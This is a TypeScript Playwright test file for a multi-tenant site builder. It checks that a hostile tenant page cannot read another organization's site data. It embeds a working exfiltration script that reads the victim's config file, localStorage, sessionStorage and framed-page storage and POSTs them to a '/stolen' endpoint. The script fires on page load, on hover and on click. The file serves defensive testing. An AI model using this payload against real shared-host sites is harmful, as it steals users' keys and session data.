import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { describeWithServers } from '../support/describe-with-servers.ts';
import { onLoopback } from '../support/on-loopback.ts';
import { suiteBrowser } from '../support/suite-browser.ts';
import { siteFolder } from './site-folder.ts';

/** Hostile script that reads another organization's site: its browser storage and its settings. */
const steal = `const take = async (from) => {
    const settings = await fetch(from + '/b/_bindery/config.js').then((answer) => answer.text()).catch(() => '');
    const kept = JSON.stringify({ ...localStorage, ...sessionStorage });
    const frame = document.createElement('iframe');
    frame.src = from + '/b/index.html';
    document.body.append(frame);
    const framed = await new Promise((done) => { frame.onload = () => { try { done(JSON.stringify(frame.contentWindow.localStorage)); } catch { done(''); } }; });
    fetch('/stolen', { method: 'POST', body: settings + kept + framed });
  };`;

const hostile = (victim: string) => ({
  'index.mdx': `---
title: Hostile
---

export const Bait = ({ children }) => {
  ${steal}
  useEffect(() => { take('${victim}'); }, []);
  return <p onMouseOver={() => take('${victim}')}>Bait {children}</p>;
};

<Bait>text</Bait>

<b onClick={() => fetch('/stolen', { method: 'POST', body: JSON.stringify(localStorage) })}>Click</b>
`,
  'own.js': `fetch('/stolen', { method: 'POST', body: JSON.stringify(localStorage) });`,
});

const secrets = ['thread-key-of-b', 'assistant-key-of-b'];
const types: Record<string, string> = { css: 'text/css', js: 'text/javascript', html: 'text/html' };

describeWithServers(['chromium'], 'a hostile island (in Chromium; skipped where there is none)', () => {
  const { newContext } = suiteBrowser();

  /** A host with the site of each organization in a separate folder. */
  async function host(sites: Record<string, string>): Promise<{ url: string; stolen: string[] }> {
    const stolen: string[] = [];
    const server = createServer((request, response) => {
      const [, site = '', ...rest] = (request.url ?? '/').split('/');
      if (site === 'stolen') {
        request.setEncoding('utf8').on('data', (text: string) => stolen.push(text));
        request.on('end', () => response.end());
        return;
      }
      const file = readFile(join(sites[site] ?? '/nowhere', ...rest)).catch(() => undefined);
      void file.then((body) => {
        const settings = request.url === '/b/_bindery/config.js' ? '// assistant-key-of-b\n' : '';
        response.setHeader('content-type', types[request.url?.split('.').at(-1) ?? ''] ?? 'text/plain');
        response.statusCode = body === undefined ? 404 : 200;
        return response.end(settings + String(body));
      });
    });
    const { url, close } = await onLoopback(server);
    onTestFinished(() => close());
    return { url, stolen };
  }

  const site = (files: Record<string, string>, allowTenantScripts: boolean) =>
    siteFolder(files, { allowTenantScripts });

  /** A reader with a thread with the assistant of the other site opens the hostile page and uses its elements. */
  async function visit(victim: string, address: string): Promise<Page> {
    const page = await (await newContext()).newPage();
    await page.goto(`${victim}/b/index.html`);
    await page.evaluate("localStorage.setItem('thread', 'thread-key-of-b')");
    await page.goto(`${address}/a/index.html`);
    await page.getByText('Bait text').hover();
    await page.getByText('Click').click();
    return page;
  }

  const victimFiles = { 'index.mdx': 'The other site' };

  test('reads all data of another site on the same host, which is why it may not run there', async () => {
    const victim = await site(victimFiles, true);
    const { url, stolen } = await host({ a: await site(hostile(''), true), b: victim });
    await visit(url, url);
    await expect.poll(() => secrets.every((secret) => stolen.join('').includes(secret))).toBe(true);
  });

  test('does not run on a host that organizations share', async () => {
    const { url, stolen } = await host({ a: await site(hostile(''), false), b: await site(victimFiles, false) });
    const page = await visit(url, url);
    expect(await page.getByText('Bait text').isVisible()).toBe(true);
    expect(await page.locator('script[src*="islands"], script[src*="own.js"], .island').count()).toBe(0);
    for (const path of ['_bindery/islands.js', '_bindery/react.js', 'own.js'])
      expect((await page.request.get(`${url}/a/${path}`)).status()).toBe(404);
    // All pending requests were sent before this one is answered.
    await page.evaluate("fetch('/stolen', { method: 'POST', body: 'the end' })");
    expect(stolen).toEqual(['the end']);
  });

  test('reads nothing of another host', async () => {
    const other = await host({ b: await site(victimFiles, true) });
    const own = await host({ a: await site(hostile(other.url), true) });
    const page = await visit(other.url, own.url);
    // The script, the element and the component of the hostile page have run.
    await expect.poll(() => own.stolen.length).toBeGreaterThanOrEqual(2);
    await page.locator('.island-live').first().waitFor();
    expect(secrets.filter((secret) => own.stolen.join('').includes(secret))).toEqual([]);
    expect(other.stolen).toEqual([]);
  });
});
